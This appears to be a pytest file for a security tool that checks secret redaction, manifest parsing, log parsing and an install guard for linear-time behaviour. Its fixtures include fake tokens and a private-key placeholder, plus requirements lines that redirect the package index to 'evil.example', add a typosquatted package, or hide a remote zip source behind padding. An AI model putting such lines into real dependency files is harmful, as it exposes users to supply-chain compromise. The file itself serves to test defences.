"""Text made to be slow to read: four times as much costs at most six times the processor time, and hides nothing."""

from __future__ import annotations

import time
from collections.abc import Callable
from functools import partial

import pytest

from regreen.code.file_change import PatchedFile
from regreen.logs.ci_log import failures_in, parse_log
from regreen.packages.concerns import find_concerns
from regreen.packages.manifests_and_locks import read_declared
from regreen.packages.setup_guard import InstallPolicy, SourceTree, find_refusals
from regreen.secrets.credential_detection import find_secrets
from regreen.secrets.redaction import redact_secrets
from tests.growth import growth
from tests.unit.secret_shapes import leaks, shapes

KEY = "-----BEGIN PRIVATE KEY-----MIIE-----END PRIVATE KEY-----"
TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY1zA2"
_WORDS = [
    "eyJ",
    "-eyJ",
    "ghs_0_-",
    "ghs_",
    "://a:",
    "p",
    "api_key ",
    "password=",
    "\t",
    "-u a",
    KEY,
    f"x='{TOKEN}';",
]


@pytest.mark.parametrize("word", _WORDS, ids=lambda word: word[:8].strip() or "blanks")
@pytest.mark.parametrize("read", [redact_secrets, find_secrets], ids=["redact", "find"])
def test_one_long_line_is_searched_for_secrets_in_linear_time(read: object, word: str) -> None:
    search = redact_secrets if read is redact_secrets else find_secrets
    assert growth(lambda size: partial(search, word * (size // len(word))), 60_000) < 6


def test_the_lines_of_a_long_generated_file_are_compared_in_little_time() -> None:
    old = [f"field_{n // 9}" if n % 9 == 0 else "    }" for n in range(20_000)]
    new = [line.replace("_", "-") if n % 900 == 0 else line for n, line in enumerate(old)]
    began = time.process_time()
    added = PatchedFile("tests/a.c", "\n".join(old), "\n".join(new)).added_lines
    assert time.process_time() - began < 8  # a minute where every pair of lines is compared
    assert [number for number, _ in added] == [n + 1 for n in range(0, 20_000, 900)]


@pytest.mark.parametrize(
    ("path", "word"),
    [
        ("go.mod", ".tr"),
        ("go.mod", "a "),
        ("requirements.txt", "a-"),
        ("requirements.txt", "#"),
        ("Gemfile", "\n"),
        ("pip.conf", "\n"),
        (".npmrc", "\n"),
        ("yarn.lock", " "),
        ("pnpm-lock.yaml", "\n"),
        ("go.sum", "a"),
    ],
)
def test_a_manifest_is_read_in_linear_time(path: str, word: str) -> None:
    assert growth(lambda size: partial(read_declared, path, word * (size // len(word)))) < 6


@pytest.mark.parametrize("path", ["pip.conf", "requirements.txt", ".npmrc", "tox.ini"])
def test_what_a_setup_installs_from_is_judged_in_linear_time(path: str) -> None:
    def judge(size: int) -> Callable[[], object]:
        head = SourceTree({path: "new"}, {path: b"\n" * size}.get)
        base = SourceTree({path: "old"}, {path: b""}.get)
        return partial(
            find_refusals, "pip install -r requirements.txt && tox", (), head, base, InstallPolicy()
        )

    assert growth(judge) < 6


@pytest.mark.parametrize(
    "word", ["\x1b[", "\x1b]", "::error ", "a", " ", "FAILED ", "'", ".tr", "Error: "]
)
def test_a_log_is_read_in_linear_time(word: str) -> None:
    line = word * (4000 // len(word)) + "\n"
    assert growth(lambda size: partial(parse_log, line.encode() * (size // 4000))) < 6
    assert growth(lambda size: partial(failures_in, word * (size // len(word)))) < 6


@pytest.mark.parametrize("before", [0, 1_234, 2_990, 3_500])
def test_a_credential_anywhere_in_a_long_line_is_taken_out(before: int) -> None:
    filler = "var a1=b(2); " * 400
    drawn = shapes(3).items()
    line = filler[:before] + "".join(
        f" {p.format(secret)} {filler[:2_500]}" for _, (p, secret) in drawn
    )
    clean = redact_secrets(line)
    assert [name for name, (_, secret) in drawn if leaks(clean, secret)] == []


@pytest.mark.parametrize("before", [0, 1_234, 2_990, 3_990])
def test_a_short_password_in_a_long_line_is_taken_out(before: int) -> None:
    filler = "var a1=b(2); " * 400
    clean = redact_secrets(f'{filler[:before]} db_password = "kT7#vPq2x"; {filler}')
    assert "kT7#vPq2x" not in clean
    assert clean.endswith(filler)


def test_a_token_in_a_minified_line_is_found() -> None:
    (found,) = find_secrets("var a=1;" * 100_000 + f'k="{TOKEN}";' + "var a=1;" * 1000, "app.js")
    assert found.kind == "GitHub token"


def test_what_stands_beside_a_long_line_is_reported_and_so_is_the_line() -> None:
    bomb = "require " + ".tr" * 40_000
    found = find_concerns(
        "requirements.txt", "", f"{bomb}\nreqests==1.0\n-i http://evil.example/x\n"
    )
    assert {one.kind for one in found} >= {"unreadable", "index-changed"}
    (unreadable,) = (one for one in found if one.kind == "unreadable")
    assert "too long in some line" in unreadable.detail


def test_a_line_too_long_to_be_judged_is_not_installed_from() -> None:
    head = SourceTree(
        {"requirements.txt": "new"},
        {"requirements.txt": b"a" + b" " * 5000 + b"@ https://evil.example/a.zip\n"}.get,
    )
    base = SourceTree({"requirements.txt": "old"}, {"requirements.txt": b"attrs\n"}.get)
    found = find_refusals("pip install -r requirements.txt", (), head, base, InstallPolicy())
    assert [one for one in found if "too long" in str(one)]
